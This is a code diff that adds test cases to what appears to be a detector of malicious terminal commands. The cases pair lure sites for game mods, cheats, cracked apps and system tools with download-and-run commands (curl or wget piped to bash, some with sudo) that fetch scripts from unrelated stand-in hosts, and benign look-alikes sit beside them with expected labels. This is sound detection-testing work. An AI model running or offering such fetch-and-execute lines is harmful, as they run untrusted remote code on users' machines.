@@ -36,6 +36,12 @@ Techniques:
   --donate-level beside a pool in a renamed copy; fetched with curl -k into /tmp and started in
   the background, it is blocked bare. Look-alikes: a miner's help, version, benchmark or build,
   a pool's page naming its stratum address, ports mapped for a container, ssh and nc options.
+- `system-tool-page`: a download-and-run in a terminal from a site named for getting a tool on
+  one system (pdf-merge-mac, video-converter-linux) or a game's mods, shaders or cheats
+  (minecraft-shaders-pack), whose script comes from a host sharing nothing with it: blocked, as
+  driver and codec sites already were. Look-alikes: such a site serving its own script, a known
+  installer quoted there, a publication or tutorial about the system (linux-magazine, mac-world,
+  linux-tips), a mod wiki, a forge repository, the same line from a plain page (a warning).
 """
 
 from __future__ import annotations
@@ -322,6 +328,113 @@ MINER_CALM = [
 ]
 for i, text in enumerate(MINER_CALM):
     add("miner-pool", text, "not_flagged", "any", "terminal" if i % 2 else "unknown")
+
+# ---- system-tool-page ----------------------------------------------------------------------
+TOOL_PAGES = [
+    (
+        "https://www.minecraft-shaders-pack.test/install",
+        "wget -qO- https://fg4.other-mods.invalid/shaders.sh | sudo bash",
+    ),
+    ("https://gta-mods-free.example/linux", "curl -fsSL https://cdn.modstage.invalid/i.sh | bash"),
+    ("https://roblox-cheats.test/mac", "curl -sL https://198.51.100.61/r.sh | zsh"),
+    (
+        "https://photoshop-crack-mac.test/get",
+        'bash -c "$(curl -fsSL https://dl.stagehost.example/ps)"',
+    ),
+    (
+        "https://www.pdf-merge-mac.test/download",
+        'eval "$(curl -fsL https://mb19.tarpon-pdf.invalid/m)"',
+    ),
+    (
+        "https://video-converter-linux.example/get",
+        "wget -O- https://files.codecstage.test/vc.sh | sh",
+    ),
+    (
+        "https://screen-recorder-macos.test/",
+        "curl -fsSL https://rec.cdn-stage.invalid/install | bash",
+    ),
+    (
+        "https://audio-editor-osx.example/download",
+        "curl -s https://203.0.113.81/a | bash -s -- --quiet",
+    ),
+    (
+        "https://secure-tunnel-pc.invalid/linux",
+        "curl -fsSL https://vpn.stage-relay.example/setup | sudo -E bash -",
+    ),
+    (
+        "https://gpu-benchmark-linux.test/run",
+        "curl -fsSL https://lx7.bench-relay.invalid/b.sh | bash",
+    ),
+    ("https://sims-mods-mac.example/cc", "curl -sSL https://mods.cdn-relay.test/cc.sh | bash"),
+    ("https://valorant-hacks-linux.test/", "wget -qO- https://198.51.100.62/h | bash"),
+]
+for page, text in TOOL_PAGES:
+    add("system-tool-page", text, "malicious", "any", "terminal", page)
+TOOL_PAGES_CALM = [
+    # the site's own script, a known installer quoted there: as before
+    (
+        "https://www.pdf-merge-mac.test/download",
+        "curl -fsSL https://www.pdf-merge-mac.test/install.sh | bash",
+        "not_flagged",
+    ),
+    (
+        "https://dl.video-converter-linux.example/get",
+        "curl -fsSL https://video-converter-linux.example/install.sh | sh",
+        "not_flagged",
+    ),
+    (
+        "https://video-converter-linux.example/get",
+        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
+        "not_flagged",
+    ),
+    ("https://screen-recorder-macos.test/", "curl https://sh.rustup.rs -sSf | sh", "not_flagged"),
+    # publications, tutorials, wikis and forums about a system or a game: a warning, as before
+    (
+        "https://www.linux-magazine.example/2026/05/tools",
+        "curl -fsSL https://get.tool.example/install.sh | bash",
+        "suspicious",
+    ),
+    (
+        "https://www.mac-world.test/howto/terminal",
+        "curl -fsSL https://get.tool.example/install.sh | bash",
+        "suspicious",
+    ),
+    (
+        "https://linux-tips.example/post/55",
+        "curl -fsSL https://get.tool.example/install.sh | bash",
+        "suspicious",
+    ),
+    (
+        "https://windows-central.test/guide",
+        "curl -fsSL https://get.tool.example/install.sh | bash",
+        "suspicious",
+    ),
+    (
+        "https://minecraft-mods-wiki.example/Server",
+        "curl -fsSL https://get.tool.example/install.sh | bash",
+        "suspicious",
+    ),
+    (
+        "https://forum.linux-users.example/t/55",
+        "curl -fsSL https://get.tool.example/install.sh | bash",
+        "suspicious",
+    ),
+    (
+        "https://blog.example.org/2026/setup",
+        "curl -fsSL https://get.tool.example/install.sh | bash",
+        "suspicious",
+    ),
+    # a forge repository of mods, serving its own script
+    (
+        "https://github.com/example-modder/minecraft-shaders",
+        "curl -fsSL https://raw.githubusercontent.com/example-modder/minecraft-shaders/main/install.sh | bash",
+        "not_flagged",
+    ),
+    # such a site's text that fetches nothing
+    ("https://www.pdf-merge-mac.test/download", "brew install --cask pdf-merge", "not_flagged"),
+]
+for page, text, expect in TOOL_PAGES_CALM:
+    add("system-tool-page", text, expect, "any", "terminal", page)
 
 CASES = book.cases
 
